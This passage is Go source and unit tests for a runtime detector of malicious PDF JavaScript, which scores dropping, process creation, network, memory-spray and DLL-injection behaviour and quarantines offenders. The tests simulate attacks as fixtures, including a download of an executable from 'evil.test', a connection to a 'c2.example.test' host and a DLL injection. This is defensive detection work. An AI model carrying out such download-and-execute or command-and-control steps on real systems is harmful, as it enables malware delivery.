	Features Vector
	// Armed reports that at least one JS-context operation was captured;
	// until then sensitive operations are ignored for this document.
	Armed bool
	// EnterMemMB is the process memory at the current JS-context entry.
	EnterMemMB float64
	// PeakMemMB is the peak observed while in JS context.
	PeakMemMB float64
	// InContext reports the document is currently executing Javascript.
	InContext bool
	// Alerted latches once an alert fires.
	Alerted bool
	// Ops logs recorded suspicious operations.
	Ops []string
	// DroppedFiles are files written while this document was active.
	DroppedFiles []string
	// SandboxPIDs are processes started (sandboxed) on this document's
	// behalf.
	SandboxPIDs []int
	// InjectedDLLs are DLL paths whose injection was rejected.
	InjectedDLLs []string
}

// processCreationWhitelist holds the benign spawns of §III-D (error
// reporting and reader-update helpers).
var processCreationWhitelist = []string{"werfault", "adobearm", "acrocef", "wermgr", "reader_sl"}

func whitelistedProcess(path string) bool {
	p := strings.ToLower(path)
	for _, w := range processCreationWhitelist {
		if strings.Contains(p, w) {
			return true
		}
	}
	return false
}

// Detector is the stand-alone runtime detector.
type Detector struct {
	cfg       Config
	soap      *soapsrv.Server
	hooks     *hook.Server
	downloads *DownloadList
	sandbox   *sandbox.Sandbox

	mu   sync.Mutex
	docs map[string]*DocState // by instrumentation key
	// active maps a reader PID to the instrumentation key currently in
	// Javascript context in that process. The paper assumes one
	// single-threaded reader; to serve concurrent readers (batch mode) the
	// detector keys the active context per process. PID 0 is the legacy
	// "unspecified process" slot used by senders that predate PID tagging.
	active map[int]string
	// lastMem is the most recent memory sample per reader PID; lastMemAny
	// is the most recent sample from any process, used as the fallback for
	// PID-0 notifications.
	lastMem    map[int]float64
	lastMemAny float64
	alerts     []Alert
}

// New creates a detector (not yet started).
func New(cfg Config) (*Detector, error) {
	if cfg.Registry == nil {
		return nil, errors.New("detect: registry required")
	}
	if cfg.OS == nil {
		cfg.OS = winos.NewOS()
	}
	if cfg.W1 == 0 {
		cfg.W1 = DefaultW1
	}
	if cfg.W2 == 0 {
		cfg.W2 = DefaultW2
	}
	if cfg.Threshold == 0 {
		cfg.Threshold = DefaultThreshold
	}
	if cfg.MemoryThresholdMB == 0 {
		cfg.MemoryThresholdMB = MemoryThresholdMB
	}
	downloads, err := NewDownloadList(cfg.DownloadsPath)
	if err != nil {
		return nil, err
	}
	d := &Detector{
		cfg:       cfg,
		downloads: downloads,
		sandbox:   sandbox.New(cfg.OS),
		docs:      make(map[string]*DocState),
		active:    make(map[int]string),
		lastMem:   make(map[int]float64),
	}
	d.soap = soapsrv.NewServer(d.handleNotify)
	d.hooks = hook.NewServer(d.handleEvent)
	d.hooks.Obs = cfg.Obs
	return d, nil
}

// Start launches the SOAP and hook servers.
func (d *Detector) Start() error {
	if err := d.soap.Start(); err != nil {
		return err
	}
	if err := d.hooks.Start(); err != nil {
		_ = d.soap.Close()
		return err
	}
	return nil
}

// Close shuts both servers down.
func (d *Detector) Close() error {
	err1 := d.soap.Close()
	err2 := d.hooks.Close()
	if err1 != nil {
		return err1
	}
	return err2
}

// SOAPURL returns the context-notification endpoint.
func (d *Detector) SOAPURL() string { return d.soap.URL() }

// HookAddr returns the hook TCP endpoint.
func (d *Detector) HookAddr() string { return d.hooks.Addr() }

// Sandbox exposes the confinement sandbox (tests and examples).
func (d *Detector) Sandbox() *sandbox.Sandbox { return d.sandbox }

// Downloads exposes the persistent executable list.
func (d *Detector) Downloads() *DownloadList { return d.downloads }

// Alerts returns raised alerts.
func (d *Detector) Alerts() []Alert {
	d.mu.Lock()
	defer d.mu.Unlock()
	return append([]Alert(nil), d.alerts...)
}

// DocStateFor returns a copy of the state for an instrumentation key.
func (d *Detector) DocStateFor(instrKey string) (DocState, bool) {
	d.mu.Lock()
	defer d.mu.Unlock()
	st, ok := d.docs[instrKey]
	if !ok {
		return DocState{}, false
	}
	return *st, true
}

// IsMalicious reports whether any alert names the given document.
func (d *Detector) IsMalicious(docID string) bool {
	d.mu.Lock()
	defer d.mu.Unlock()
	for _, a := range d.alerts {
		if a.DocID == docID {
			return true
		}
	}
	return false
}

// Notify feeds one context notification directly into the detector,
// bypassing the SOAP transport. The live SOAP server delivers to this
// same method; journal.Replay uses it to re-feed a recorded stream.
func (d *Detector) Notify(n soapsrv.Notify, remote string) error {
	return d.handleNotify(n, remote)
}

// Event feeds one hooked API call directly into the detector, bypassing
// the TCP transport (the hook server's live path, and journal.Replay's).
func (d *Detector) Event(ev hook.Event) hook.Decision {
	return d.handleEvent(ev)
}

// ForgetDoc drops the volatile per-document state (malscore is volatile:
// it no longer exists once the reader closes, §III-E).
func (d *Detector) ForgetDoc(instrKey string) {
	d.mu.Lock()
	defer d.mu.Unlock()
	d.journalForget(instrKey)
	delete(d.docs, instrKey)
	for pid, key := range d.active {
		if key == instrKey {
			delete(d.active, pid)
		}
	}
}

// ---- SOAP context notifications ----

func (d *Detector) handleNotify(n soapsrv.Notify, remote string) error {
	d.mu.Lock()
	defer d.mu.Unlock()

	rec, err := d.cfg.Registry.Validate(n.Key)
	if err != nil {
		// Zero tolerance to fake messages: tag the active document as
		// malicious (PDF readers are single-threaded, so the active
		// document is the one responsible).
		d.fakeMessageLocked(n, err)
		return fmt.Errorf("fake message: %v", err)
	}
	k, _ := instrument.ParseKey(n.Key)
	st := d.docStateLocked(k.InstrKey, rec)
	st.PID = n.PID
	mem := d.memForLocked(n.PID)
	d.journalCtx(n, st, mem)

	switch n.Event {
	case soapsrv.EventEnter:
		d.active[n.PID] = k.InstrKey
		st.InContext = true
		st.EnterMemMB = mem
		st.PeakMemMB = mem
	case soapsrv.EventExit:
		if d.active[n.PID] == k.InstrKey {
			delete(d.active, n.PID)
		}
		st.InContext = false
		d.updateMemoryFeatureLocked(st, mem)
		d.evaluateLocked(st)
	}
	return nil
}

// memForLocked returns the freshest memory sample for a reader process,
// falling back to the most recent sample from any process when the PID has
// never reported one (legacy PID-0 senders).
func (d *Detector) memForLocked(pid int) float64 {
	if mem, ok := d.lastMem[pid]; ok {
		return mem
	}
	return d.lastMemAny
}

func (d *Detector) fakeMessageLocked(n soapsrv.Notify, cause error) {
	d.cfg.Obs.Inc(obs.MetricFakeMessages)
	// Prefer the active document in the sending process; otherwise, if the
	// claimed key is known, blame that document.
	st := d.activeDocLocked(n.PID)
	if st == nil {
		if k, err := instrument.ParseKey(n.Key); err == nil {
			if rec, ok := d.cfg.Registry.LookupKey(k.InstrKey); ok {
				st = d.docStateLocked(k.InstrKey, rec)
			}
		}
	}
	d.journalFake(n, st, cause)
	if st == nil {
		// No attributable document; record a detector-level alert.
		a := Alert{
			DocID:  "<unknown>",
			Reason: "fake-message: " + cause.Error(),
			Cause:  cause.Error(),
		}
		d.alerts = append(d.alerts, a)
		d.journalAlert(nil, a)
		return
	}
	st.Ops = append(st.Ops, "fake-message: "+cause.Error())
	d.raiseAlertLocked(st, "fake-message", cause.Error())
}

// countFeatureTrigger records a feature's first trigger on a document.
func (d *Detector) countFeatureTrigger(feature int) {
	d.cfg.Obs.Inc(obs.FeatureSeries(FeatureNames[feature]))
}

func (d *Detector) docStateLocked(instrKey string, rec instrument.DocRecord) *DocState {
	st, ok := d.docs[instrKey]
	if !ok {
		st = &DocState{InstrKey: instrKey, DocID: rec.DocID}
		for i, b := range rec.StaticVector {
			st.Features[i] = b
		}
		d.docs[instrKey] = st
	}
	return st
}

// ---- hook events ----

func (d *Detector) handleEvent(ev hook.Event) hook.Decision {
	d.mu.Lock()
	defer d.mu.Unlock()

	d.lastMem[ev.PID] = ev.MemMB
	d.lastMemAny = ev.MemMB
	active := d.activeDocLocked(ev.PID)
	if active != nil && active.InContext {
		if ev.MemMB > active.PeakMemMB {
			active.PeakMemMB = ev.MemMB
		}
	}
	dec := d.decideLocked(ev, active)
	d.journalHook(ev, dec, active)
	return dec
}

// decideLocked dispatches one event to its behaviour handler and returns
// the confinement decision (split from handleEvent so the journal can
// record the event together with its decision).
func (d *Detector) decideLocked(ev hook.Event, active *DocState) hook.Decision {
	switch ev.Behavior() {
	case hook.BehaviorMemorySample:
		if active != nil && active.InContext {
			d.updateMemoryFeatureLocked(active, ev.MemMB)
			d.evaluateLocked(active)
		}
		return hook.Decision{Action: hook.ActionAllow}
	case hook.BehaviorMalwareDropping:
		return d.onDropLocked(ev, active)
	case hook.BehaviorNetworkAccess:
		return d.onNetworkLocked(ev, active)
	case hook.BehaviorMappedMemorySearch:
		return d.onMemSearchLocked(ev, active)
	case hook.BehaviorProcessCreation:
		return d.onProcessLocked(ev, active)
	case hook.BehaviorDLLInjection:
		return d.onInjectLocked(ev, active)
	default:
		return hook.Decision{Action: hook.ActionAllow}
	}
}

// activeDocLocked resolves the document currently in Javascript context for
// a reader process. Legacy fallbacks keep single-reader senders working: a
// PID-0 enter claims whatever process raises events, and a PID-0 event (or
// notification) matches a sole active context.
func (d *Detector) activeDocLocked(pid int) *DocState {
	if key, ok := d.active[pid]; ok {
		return d.docs[key]
	}
	if key, ok := d.active[0]; ok {
		return d.docs[key]
	}
	if pid == 0 && len(d.active) == 1 {
		for _, key := range d.active {
			return d.docs[key]
		}
	}
	return nil
}

// sameProcessLocked reports whether a document's state may be affected by
// an event from the given reader PID. PID 0 on either side means
// "unspecified process" and matches everything (legacy single-reader mode).
func (d *Detector) sameProcessLocked(st *DocState, pid int) bool {
	return st.PID == pid || st.PID == 0 || pid == 0
}

func (d *Detector) updateMemoryFeatureLocked(st *DocState, curMemMB float64) {
	if curMemMB > st.PeakMemMB {
		st.PeakMemMB = curMemMB
	}
	if st.PeakMemMB-st.EnterMemMB >= d.cfg.MemoryThresholdMB {
		if st.Features[FMemory] == 0 {
			op := fmt.Sprintf("injs-memory: +%.0f MB", st.PeakMemMB-st.EnterMemMB)
			st.Ops = append(st.Ops, op)
			d.countFeatureTrigger(FMemory)
			d.journalFeature(st, FMemory, op)
		}
		st.Features[FMemory] = 1
		st.Armed = true
	}
}

// onDropLocked: Table III — before alert, the hook calls the original API
// (allow); the detector maintains the downloaded-executables list; on
// alert, isolate.
func (d *Detector) onDropLocked(ev hook.Event, active *DocState) hook.Decision {
	path := ev.Arg(0)
	if strings.HasPrefix(ev.API, "URLDownloadTo") {
		path = ev.Arg(1)
	}
	if active != nil && active.InContext {
		d.markLocked(active, FDropping, "injs-drop: "+path)
		active.DroppedFiles = append(active.DroppedFiles, path)
		if winos.IsExecutablePath(path) {
			_ = d.downloads.Add(DownloadEntry{Path: path, DocID: active.DocID, Key: active.InstrKey})
		}
		if active.Alerted {
			d.journalConfine(active, journal.ConfineDropBlocked, path, 0)
			return hook.Decision{Action: hook.ActionReject, Note: "post-alert: drop blocked"}
		}
		d.evaluateLocked(active)
		if active.Alerted {
			// This very drop tipped the malscore; block it so the file
			// never lands (earlier drops are quarantined by the alert).
			d.journalConfine(active, journal.ConfineDropBlocked, path, 0)
			return hook.Decision{Action: hook.ActionReject, Note: "alert raised: drop blocked"}
		}
		return hook.Decision{Action: hook.ActionAllow, Note: "drop tracked"}
	}
	// Out-of-JS file writes are ordinary reader behaviour (caches, prefs)
	// and are not a monitored out-JS feature (Table II).
	return hook.Decision{Action: hook.ActionAllow}
}

// isOwnEndpoint whitelists communications between the runtime detector and
// the context monitoring code (§III-D).
func (d *Detector) isOwnEndpoint(hostport string) bool {
	if hostport == "" {
		return false
	}
	return hostport == d.soap.Addr() || hostport == d.hooks.Addr()
}

func (d *Detector) onNetworkLocked(ev hook.Event, active *DocState) hook.Decision {
	host := ev.Arg(0)
	if d.isOwnEndpoint(host) {
		return hook.Decision{Action: hook.ActionAllow, Note: "detector channel whitelisted"}
	}
	if active != nil && active.InContext {
		d.markLocked(active, FNetwork, fmt.Sprintf("injs-network: %s(%s)", ev.API, host))
		if active.Alerted {
			return hook.Decision{Action: hook.ActionReject, Note: "post-alert: network blocked"}
		}
		d.evaluateLocked(active)
	}
	// Network access is monitored but not confined (Table III lists only
	// dropping, process creation and DLL injection).
	return hook.Decision{Action: hook.ActionAllow}
}

func (d *Detector) onMemSearchLocked(ev hook.Event, active *DocState) hook.Decision {
	if active != nil && active.InContext {
		d.markLocked(active, FMemSearch, "injs-mem-search: "+ev.API)
		d.evaluateLocked(active)
	}
	return hook.Decision{Action: hook.ActionAllow}
}

func (d *Detector) onProcessLocked(ev hook.Event, active *DocState) hook.Decision {
	path := ev.Arg(0)
	if whitelistedProcess(path) {
		return hook.Decision{Action: hook.ActionAllow, Note: "whitelisted helper"}
	}
	inJS := active != nil && active.InContext
	if inJS {
		d.markLocked(active, FProcCreate, "injs-process: "+path)
		// Multi-PDF cooperation: executing a file another document
		// downloaded in JS context links both documents (§III-E).
		if entry, ok := d.downloads.Lookup(path); ok && entry.Key != active.InstrKey {
			d.markLocked(active, FDropping, "injs-drop (imputed via downloads list): "+path)
			if other, exists := d.docs[entry.Key]; exists {
				d.markLocked(other, FProcCreate, "injs-process (imputed: its download executed): "+path)
				d.evaluateLocked(other)
			}
		}
	} else {
		// Out-JS process creation counts for every armed document open in
		// the same reader process.
		for _, st := range d.docs {
			if st.Armed && d.sameProcessLocked(st, ev.PID) {
				d.markOutJSLocked(st, FOutJSProc, "outjs-process: "+path)
				d.evaluateLocked(st)
			}
		}
	}
	// Table III: the hook rejects the original call; the detector runs the
	// target inside the sandbox (pre-alert).
	owner := active
	if owner == nil {
		owner = d.someArmedDocLocked(ev.PID)
	}
	if owner != nil && owner.Alerted {
		d.journalConfine(owner, journal.ConfineProcessBlocked, path, 0)
		return hook.Decision{Action: hook.ActionReject, Note: "post-alert: process creation blocked"}
	}
	pid := d.sandbox.Run(path, ev.PID)
	d.journalConfine(owner, journal.ConfineSandboxed, path, pid)
	if owner != nil {
		owner.SandboxPIDs = append(owner.SandboxPIDs, pid)
		d.evaluateLocked(owner)
	}
	return hook.Decision{Action: hook.ActionSandbox, Note: fmt.Sprintf("running in sandbox as pid %d", pid)}
}

func (d *Detector) someArmedDocLocked(pid int) *DocState {
	for _, st := range d.docs {
		if st.Armed && d.sameProcessLocked(st, pid) {
			return st
		}
	}
	return nil
}

func (d *Detector) onInjectLocked(ev hook.Event, active *DocState) hook.Decision {
	dll := ev.Arg(0)
	if active != nil && active.InContext {
		d.markLocked(active, FDLLInject, "injs-dll-inject: "+dll)
		active.InjectedDLLs = append(active.InjectedDLLs, dll)
		d.evaluateLocked(active)
	} else {
		for _, st := range d.docs {
			if st.Armed && d.sameProcessLocked(st, ev.PID) {
				d.markOutJSLocked(st, FOutJSInject, "outjs-dll-inject: "+dll)
				st.InjectedDLLs = append(st.InjectedDLLs, dll)
				d.evaluateLocked(st)
			}
		}
	}
	// Table III: always reject; isolate the DLL.
	d.journalConfine(active, journal.ConfineInjectionRejected, dll, 0)
	if d.cfg.OS.FileExists(dll) {
		d.cfg.OS.Quarantine(dll, "dll-injection rejected")
	}
	return hook.Decision{Action: hook.ActionReject, Note: "dll injection always rejected"}
}

// markLocked sets a JS-context feature and arms the document.
func (d *Detector) markLocked(st *DocState, feature int, op string) {
	if st.Features[feature] == 0 {
		st.Ops = append(st.Ops, op)
		d.countFeatureTrigger(feature)
		d.journalFeature(st, feature, op)
	}
	st.Features[feature] = 1
	if feature >= FMemory {
		st.Armed = true
	}
}

// markOutJSLocked sets an out-of-JS feature (only on armed documents).
func (d *Detector) markOutJSLocked(st *DocState, feature int, op string) {
	if st.Features[feature] == 0 {
		st.Ops = append(st.Ops, op)
		d.countFeatureTrigger(feature)
		d.journalFeature(st, feature, op)
	}
	st.Features[feature] = 1
}

// evaluateLocked recomputes the malscore and raises an alert when it
// crosses the threshold.
func (d *Detector) evaluateLocked(st *DocState) {
	if st.Alerted || !st.Armed {
		return
	}
	score := st.Features.Malscore(d.cfg.W1, d.cfg.W2)
	if score >= d.cfg.Threshold {
		d.raiseAlertLocked(st, "malscore", "")
	}
}

// raiseAlertLocked executes the on-alert confinement of Table III and
// records the alert (cause carries the fake-message validation error, ""
// for malscore alerts).
func (d *Detector) raiseAlertLocked(st *DocState, reason, cause string) {
	if st.Alerted {
		return
	}
	st.Alerted = true
	d.cfg.Obs.Inc(obs.MetricAlerts)

	alert := Alert{
		DocID:    st.DocID,
		InstrKey: st.InstrKey,
		Malscore: st.Features.Malscore(d.cfg.W1, d.cfg.W2),
		Features: st.Features,
		Reason:   reason,
		Cause:    cause,
		Ops:      append([]string(nil), st.Ops...),
	}
	// Isolate dropped files.
	for _, f := range st.DroppedFiles {
		if d.cfg.OS.Quarantine(f, "alert: dropped by "+st.DocID) {
			alert.IsolatedFiles = append(alert.IsolatedFiles, f)
			d.journalConfine(st, journal.ConfineIsolated, f, 0)
		}
	}
	// Terminate sandboxed processes and isolate their executables.
	for _, pid := range st.SandboxPIDs {
		if path, ok := d.sandbox.PathOf(pid); ok {
			if d.sandbox.Terminate(pid) {
				alert.TerminatedPIDs = append(alert.TerminatedPIDs, pid)
				d.journalConfine(st, journal.ConfineTerminated, path, pid)
			}
			if d.cfg.OS.Quarantine(path, "alert: executed by "+st.DocID) {
				alert.IsolatedFiles = append(alert.IsolatedFiles, path)
				d.journalConfine(st, journal.ConfineIsolated, path, 0)
			}
		}
	}
	// Isolate injected DLLs.
	for _, dll := range st.InjectedDLLs {
		if d.cfg.OS.Quarantine(dll, "alert: injected by "+st.DocID) {
			alert.IsolatedFiles = append(alert.IsolatedFiles, dll)
			d.journalConfine(st, journal.ConfineIsolated, dll, 0)
		}
	}
	d.alerts = append(d.alerts, alert)
	d.journalAlert(st, alert)
}
