package detect

import (
	"path/filepath"
	"testing"

	"pdfshield/internal/hook"
	"pdfshield/internal/instrument"
	"pdfshield/internal/soapsrv"
	"pdfshield/internal/winos"
)

func TestMalscoreEquation(t *testing.T) {
	tests := []struct {
		name string
		set  []int
		want int
	}{
		{"empty", nil, 0},
		{"one static", []int{FRatio}, 1},
		{"all static", []int{FRatio, FHeaderObf, FHexCode, FEmptyObjects, FEncodingLevels}, 5},
		{"one injs", []int{FMemory}, 9},
		{"one injs one static (criterion minimum)", []int{FMemory, FRatio}, 10},
		{"two injs", []int{FDropping, FProcCreate}, 18},
		{"outjs only", []int{FOutJSProc, FOutJSInject}, 2},
		{"everything", []int{FRatio, FHeaderObf, FHexCode, FEmptyObjects, FEncodingLevels, FOutJSProc, FOutJSInject, FMemory, FNetwork, FMemSearch, FDropping, FProcCreate, FDLLInject}, 7 + 54},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var v Vector
			for _, i := range tt.set {
				v[i] = 1
			}
			if got := v.Malscore(DefaultW1, DefaultW2); got != tt.want {
				t.Errorf("malscore = %d, want %d", got, tt.want)
			}
		})
	}
}

func TestDetectionCriterion(t *testing.T) {
	// Malicious iff >= 1 JS-context feature AND >= 1 other feature (or a
	// second JS-context feature).
	var onlyInJS Vector
	onlyInJS[FMemory] = 1
	if onlyInJS.Malscore(DefaultW1, DefaultW2) >= DefaultThreshold {
		t.Error("single in-JS feature alone must stay below threshold")
	}
	var onlyStatic Vector
	for i := FRatio; i <= FEncodingLevels; i++ {
		onlyStatic[i] = 1
	}
	onlyStatic[FOutJSProc] = 1
	onlyStatic[FOutJSInject] = 1
	if onlyStatic.Malscore(DefaultW1, DefaultW2) >= DefaultThreshold {
		t.Error("static+outJS without in-JS must stay below threshold")
	}
}

// harness wires a detector with a registered fake document.
type harness struct {
	t        *testing.T
	det      *Detector
	reg      *instrument.Registry
	osState  *winos.OS
	client   *hook.TCPClient
	soap     *soapsrv.Client
	wireKey  string
	instrKey string
}

func newHarness(t *testing.T, static [5]int) *harness {
	t.Helper()
	reg := instrument.NewRegistry("det01")
	rec := instrument.DocRecord{
		DocID:        "sample.pdf",
		InstrKey:     "key123",
		ContentHash:  "hash123",
		StaticVector: static,
	}
	if err := reg.Register(rec); err != nil {
		t.Fatal(err)
	}
	osState := winos.NewOS()
	det, err := New(Config{Registry: reg, OS: osState})
	if err != nil {
		t.Fatal(err)
	}
	if err := det.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = det.Close() })
	client, err := hook.Dial(det.HookAddr())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = client.Close() })
	return &harness{
		t:        t,
		det:      det,
		reg:      reg,
		osState:  osState,
		client:   client,
		soap:     soapsrv.NewClient(det.SOAPURL()),
		wireKey:  "det01:key123",
		instrKey: "key123",
	}
}

func (h *harness) enter(mem float64) {
	h.t.Helper()
	h.api("ctx.mem", mem)
	if _, err := h.soap.Send(soapsrv.Notify{Event: soapsrv.EventEnter, Key: h.wireKey, Seq: 1}); err != nil {
		h.t.Fatalf("enter: %v", err)
	}
}

func (h *harness) exit(mem float64) {
	h.t.Helper()
	h.api("ctx.mem", mem)
	if _, err := h.soap.Send(soapsrv.Notify{Event: soapsrv.EventExit, Key: h.wireKey, Seq: 1}); err != nil {
		h.t.Fatalf("exit: %v", err)
	}
}

func (h *harness) api(name string, mem float64, args ...string) hook.Decision {
	h.t.Helper()
	dec, err := h.client.OnAPICall(hook.Event{PID: 1, API: name, Args: args, MemMB: mem})
	if err != nil {
		h.t.Fatalf("api %s: %v", name, err)
	}
	return dec
}

func TestDropAndExecuteInJSContextAlerts(t *testing.T) {
	h := newHarness(t, [5]int{})
	h.osState.WriteFile(`C:\tmp\mal.exe`, []byte("MZ"))

	h.enter(50)
	dec := h.api("NtCreateFile", 52, `C:\tmp\mal.exe`)
	if dec.Action != hook.ActionAllow {
		t.Errorf("pre-alert drop should be allowed, got %v", dec)
	}
	dec = h.api("NtCreateProcess", 52, `C:\tmp\mal.exe`)
	if dec.Action != hook.ActionSandbox {
		t.Errorf("process creation should be sandboxed, got %v", dec)
	}
	h.exit(52)

	alerts := h.det.Alerts()
	if len(alerts) != 1 {
		t.Fatalf("alerts = %d", len(alerts))
	}
	a := alerts[0]
	if a.DocID != "sample.pdf" || a.Reason != "malscore" {
		t.Errorf("alert = %+v", a)
	}
	if a.Malscore < DefaultThreshold {
		t.Errorf("malscore = %d", a.Malscore)
	}
	if a.Features[FDropping] != 1 || a.Features[FProcCreate] != 1 {
		t.Errorf("features = %v", a.Features)
	}
	// Confinement: dropped file quarantined, sandboxed process terminated.
	if h.osState.FileExists(`C:\tmp\mal.exe`) {
		t.Error("dropped file not isolated on alert")
	}
	if h.det.Sandbox().Running() != 0 {
		t.Error("sandboxed process still running after alert")
	}
	if !h.det.IsMalicious("sample.pdf") {
		t.Error("IsMalicious false")
	}
}

func TestMemoryFeatureWithStaticAlerts(t *testing.T) {
	// One static feature + heap-spray memory growth = 10 = threshold.
	h := newHarness(t, [5]int{1, 0, 0, 0, 0})
	h.enter(60)
	h.api("ctx.mem", 400) // spray grows memory by 340 MB in JS context
	if len(h.det.Alerts()) != 1 {
		t.Fatalf("alerts = %d, want 1 (spray + ratio)", len(h.det.Alerts()))
	}
	a := h.det.Alerts()[0]
	if a.Features[FMemory] != 1 || a.Features[FRatio] != 1 {
		t.Errorf("features = %v", a.Features)
	}
}

func TestMemoryAloneStaysBelow(t *testing.T) {
	h := newHarness(t, [5]int{})
	h.enter(60)
	h.exit(400)
	if len(h.det.Alerts()) != 0 {
		t.Fatalf("single in-JS feature alone should not alert: %+v", h.det.Alerts())
	}
	st, ok := h.det.DocStateFor(h.instrKey)
	if !ok {
		t.Fatal("doc state missing")
	}
	if st.Features[FMemory] != 1 || !st.Armed {
		t.Errorf("state = %+v", st)
	}
}

func TestOutJSCountsOnlyWhenArmed(t *testing.T) {
	h := newHarness(t, [5]int{})
	// Out-JS process creation BEFORE any in-JS op: ignored for scoring.
	h.api("NtCreateProcess", 55, `C:\evil\loader.exe`)
	st, _ := h.det.DocStateFor(h.instrKey)
	if st.Features[FOutJSProc] != 0 {
		t.Error("out-JS op counted before arming")
	}
	// Arm via in-JS memory, exit, then out-JS exploit (Flash/CoolType
	// pattern): F8 (9) + F6 (1) = 10 -> alert.
	h.enter(50)
	h.api("ctx.mem", 300)
	h.exit(300)
	h.api("NtCreateProcess", 300, `C:\evil\stage2.exe`)
	alerts := h.det.Alerts()
	if len(alerts) != 1 {
		t.Fatalf("alerts = %d, want 1", len(alerts))
	}
	if alerts[0].Features[FOutJSProc] != 1 || alerts[0].Features[FMemory] != 1 {
		t.Errorf("features = %v", alerts[0].Features)
	}
}

func TestWhitelistedProcessIgnored(t *testing.T) {
	h := newHarness(t, [5]int{1, 1, 1, 1, 1})
	h.enter(50)
	h.api("ctx.mem", 300) // arm with F8
	dec := h.api("NtCreateProcess", 300, `C:\Windows\System32\WerFault.exe`)
	if dec.Action != hook.ActionAllow {
		t.Errorf("whitelisted spawn = %v", dec)
	}
	st, _ := h.det.DocStateFor(h.instrKey)
	if st.Features[FProcCreate] != 0 {
		t.Error("whitelisted spawn counted as feature")
	}
}

func TestDLLInjectionAlwaysRejected(t *testing.T) {
	h := newHarness(t, [5]int{})
	h.osState.WriteFile(`C:\tmp\evil.dll`, []byte("MZ"))
	dec := h.api("CreateRemoteThread", 50, `C:\tmp\evil.dll`)
	if dec.Action != hook.ActionReject {
		t.Errorf("injection decision = %v", dec)
	}
	if h.osState.FileExists(`C:\tmp\evil.dll`) {
		t.Error("injected DLL not isolated")
	}
}

func TestFakeMessageZeroTolerance(t *testing.T) {
	h := newHarness(t, [5]int{})
	// Attacker (inside the active document) sends a forged exit with a
	// wrong key, trying to mimic the epilogue.
	h.enter(50)
	if _, err := h.soap.Send(soapsrv.Notify{Event: soapsrv.EventExit, Key: "det01:stolenkey", Seq: 9}); err == nil {
		t.Error("forged message should produce a SOAP fault")
	}
	alerts := h.det.Alerts()
	if len(alerts) != 1 {
		t.Fatalf("alerts = %d, want 1", len(alerts))
	}
	if alerts[0].Reason != "fake-message" {
		t.Errorf("reason = %q", alerts[0].Reason)
	}
	if alerts[0].DocID != "sample.pdf" {
		t.Errorf("fake message should blame the active document, got %q", alerts[0].DocID)
	}
}

func TestFakeMessageForeignDetectorID(t *testing.T) {
	h := newHarness(t, [5]int{})
	if _, err := h.soap.Send(soapsrv.Notify{Event: soapsrv.EventEnter, Key: "otherdet:key123", Seq: 1}); err == nil {
		t.Error("foreign detector id should fault")
	}
	if len(h.det.Alerts()) != 1 {
		t.Fatalf("alerts = %d", len(h.det.Alerts()))
	}
}

func TestMultiDocCooperation(t *testing.T) {
	reg := instrument.NewRegistry("det01")
	for _, k := range []string{"keyA", "keyB"} {
		if err := reg.Register(instrument.DocRecord{DocID: "doc-" + k, InstrKey: k, ContentHash: "h" + k}); err != nil {
			t.Fatal(err)
		}
	}
	osState := winos.NewOS()
	det, err := New(Config{Registry: reg, OS: osState})
	if err != nil {
		t.Fatal(err)
	}
	if err := det.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { _ = det.Close() }()
	client, err := hook.Dial(det.HookAddr())
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = client.Close() }()
	soap := soapsrv.NewClient(det.SOAPURL())

	send := func(ev, key string) {
		t.Helper()
		if _, err := soap.Send(soapsrv.Notify{Event: ev, Key: key, Seq: 1}); err != nil {
			t.Fatal(err)
		}
	}
	api := func(name string, args ...string) {
		t.Helper()
		if _, err := client.OnAPICall(hook.Event{PID: 1, API: name, Args: args, MemMB: 50}); err != nil {
			t.Fatal(err)
		}
	}

	// Doc A downloads an executable in its JS context (stealthy: only one
	// op, below threshold).
	send("enter", "det01:keyA")
	api("URLDownloadToFileA", "http://evil.test/a.exe", `C:\tmp\shared.exe`)
	send("exit", "det01:keyA")
	if det.Downloads().Len() != 1 {
		t.Fatalf("downloads list = %d", det.Downloads().Len())
	}

	// Doc B executes it in B's JS context: the detector imputes dropping
	// to B and execution to A, linking the pair.
	send("enter", "det01:keyB")
	api("NtCreateProcess", `C:\tmp\shared.exe`)
	send("exit", "det01:keyB")

	stB, _ := det.DocStateFor("keyB")
	if stB.Features[FProcCreate] != 1 || stB.Features[FDropping] != 1 {
		t.Errorf("doc B features = %v", stB.Features)
	}
	stA, _ := det.DocStateFor("keyA")
	if stA.Features[FDropping] != 1 || stA.Features[FProcCreate] != 1 {
		t.Errorf("doc A features = %v", stA.Features)
	}
	// Both should alert (two in-JS features each = 18).
	if len(det.Alerts()) != 2 {
		t.Errorf("alerts = %d, want 2: %+v", len(det.Alerts()), det.Alerts())
	}
}

func TestDownloadListPersistence(t *testing.T) {
	path := filepath.Join(t.TempDir(), "downloads.json")
	dl, err := NewDownloadList(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := dl.Add(DownloadEntry{Path: `C:\tmp\x.exe`, DocID: "d1", Key: "k1"}); err != nil {
		t.Fatal(err)
	}
	dl2, err := NewDownloadList(path)
	if err != nil {
		t.Fatal(err)
	}
	if e, ok := dl2.Lookup(`c:\TMP\X.EXE`); !ok || e.DocID != "d1" {
		t.Errorf("persisted lookup = %+v %v", e, ok)
	}
}

func TestForgetDocVolatileMalscore(t *testing.T) {
	h := newHarness(t, [5]int{})
	h.enter(50)
	h.exit(400)
	if _, ok := h.det.DocStateFor(h.instrKey); !ok {
		t.Fatal("state should exist")
	}
	h.det.ForgetDoc(h.instrKey)
	if _, ok := h.det.DocStateFor(h.instrKey); ok {
		t.Error("state should be volatile")
	}
	// The downloads list is persistent and unaffected by ForgetDoc.
}

func TestNetworkAccessFeature(t *testing.T) {
	h := newHarness(t, [5]int{})
	h.enter(50)
	h.api("connect", 51, "c2.example.test:443")
	st, _ := h.det.DocStateFor(h.instrKey)
	if st.Features[FNetwork] != 1 {
		t.Error("network feature not set")
	}
	// Detector's own channel is whitelisted.
	h.api("connect", 51, h.det.HookAddr())
	st, _ = h.det.DocStateFor(h.instrKey)
	if len(st.Ops) != 1 {
		t.Errorf("whitelisted connect recorded: %v", st.Ops)
	}
}

func TestMemSearchFeature(t *testing.T) {
	h := newHarness(t, [5]int{1, 0, 0, 0, 0})
	h.enter(50)
	h.api("IsBadReadPtr", 51, "0x00400000")
